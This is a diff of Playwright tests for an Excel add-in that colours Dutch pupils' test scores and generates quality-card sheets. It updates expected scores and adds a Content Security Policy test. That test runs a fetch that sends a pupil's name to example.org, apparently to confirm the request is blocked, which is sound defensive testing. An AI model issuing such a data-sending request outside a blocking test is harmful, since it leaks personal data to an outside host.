@@ -58,7 +58,7 @@ describe("the taskpane outside Excel", () => {
     await page.waitForSelector("table.blad");
     await page.selectOption("#blad", "Groep 5");
     await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Groep 5");
-    expect((await cel("Tess Mulder", "C")).tekst).toBe("47");
+    expect((await cel("Tess Mulder", "C")).tekst).toBe("45");
   });
 
   it("walks from step 1.1 to 2.3, colouring the group on the way", async () => {
@@ -84,11 +84,12 @@ describe("the taskpane outside Excel", () => {
   it("shows the colours and labels of named pupils in the table (checked by hand)", async () => {
     await sessie.page.waitForSelector("td[data-kleur]");
     // 2F/1S line at 5b: 48; expected growth 5a → 5b: 8.
-    expect(await cel("Tess Mulder", "C")).toEqual({ tekst: "47", kleur: "donkerblauw" }); // 35 → 47: below, 12/8
-    expect(await cel("Hanna Bakker", "C")).toEqual({ tekst: "43,0", kleur: "lichtblauw" }); // text "43,0": below, 1/8
+    expect(await cel("Tess Mulder", "C")).toEqual({ tekst: "45", kleur: "donkerblauw" }); // 37 → 45: below, 8/8 counts as expected
+    expect(await cel("Hanna Bakker", "C")).toEqual({ tekst: "45,0", kleur: "donkerblauw" }); // text "45,0": below, 9/8
+    expect(await cel("Otis de Vries", "C")).toEqual({ tekst: "42", kleur: "lichtblauw" }); // 40 → 42: below, 2/8
     expect(await cel("Wessel Hendriks", "C")).toEqual({ tekst: "51", kleur: "donkergroen" }); // 43 → 51: ties count
     expect(await labelVan("Wessel Hendriks", "Kleur rekenen")).toBe("donkergroen");
-    expect(await labelVan("Hanna Bakker", "Niveau rekenen")).toBe("geen resultaat"); // 43 is under 5b's lowest score, 44
+    expect(await labelVan("Otis de Vries", "Niveau rekenen")).toBe("geen resultaat"); // 42 is under 5b's lowest score, 44
   });
 
   it("offers the result as a download that reads back with the colouring in it", async () => {
@@ -132,6 +133,35 @@ describe("the taskpane outside Excel", () => {
     const koppen = await page.$$eval("table.blad tbody td", (tds) => tds.map((t) => t.textContent));
     expect(koppen).toContain("Kleur rekenen");
     expect(koppen).not.toContain("Kleur technisch lezen");
+  });
+
+  it("makes kwaliteitskaarten for the chosen group, and a second time only fills empty cells", async () => {
+    const { page } = sessie;
+    await page.click("#kaarten-blok summary");
+    await page.getByLabel("Kwaliteitskaart leerkracht (van het gekozen groepsblad)").check();
+    await page.getByLabel("Kwaliteitskaart IB (de hele school)").check();
+    await page.getByLabel("Tussenopbrengsten").check();
+    await page.getByRole("button", { name: "Maak de kaarten" }).click();
+    await page.waitForSelector("#kaarten .uitkomst.klaar");
+    expect(await page.textContent("#kaarten .uitkomst.klaar p")).toBe("3 kaarten klaar. Wat je zelf al invulde, is niet veranderd.");
+    const details = await page.$$eval("#kaarten .uitkomst li", (lis) => lis.map((li) => li.textContent));
+    expect(details[0]).toMatch(/^Blad Kwaliteitskaart leerkracht gemaakt, met \d+ waarden uit de werkmap al ingevuld\.$/);
+    expect(await page.$$eval("#blad option", (os) => os.map((o) => o.textContent))).toEqual(expect.arrayContaining(["Kwaliteitskaart leerkracht", "Kwaliteitskaart IB", "Instrument - Tussenopbrengsten"]));
+    await page.locator("#kaarten-blok").screenshot({ path: join(SCREENSHOTS, "kwaliteitskaarten.png") });
+    await page.getByRole("button", { name: "Maak de kaarten" }).click();
+    await page.waitForFunction(() => document.querySelector("#kaarten .uitkomst li")?.textContent?.includes("bestond al"));
+    expect(await page.textContent("#kaarten .uitkomst li")).toBe("Blad Kwaliteitskaart leerkracht bestond al: niets aan te vullen.");
+  });
+
+  it("forbids frames and connections to anywhere but its own origin, so a stray script could not send data out", async () => {
+    const { page } = sessie;
+    const beleid = await page.getAttribute("meta[http-equiv=Content-Security-Policy]", "content");
+    expect(beleid).toContain("connect-src 'self'");
+    expect(beleid).toContain("frame-src 'none'");
+    expect(beleid).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
+    const poging = await page.evaluate(() => fetch("https://example.org/lek?naam=Tess").then(() => "verstuurd", () => "geweigerd"));
+    expect(poging).toBe("geweigerd");
+    expect(sessie.verzoeken.some((u) => u.includes("example.org"))).toBe(false);
   });
 
   it("sends nothing anywhere: every request stays on 127.0.0.1", () => {
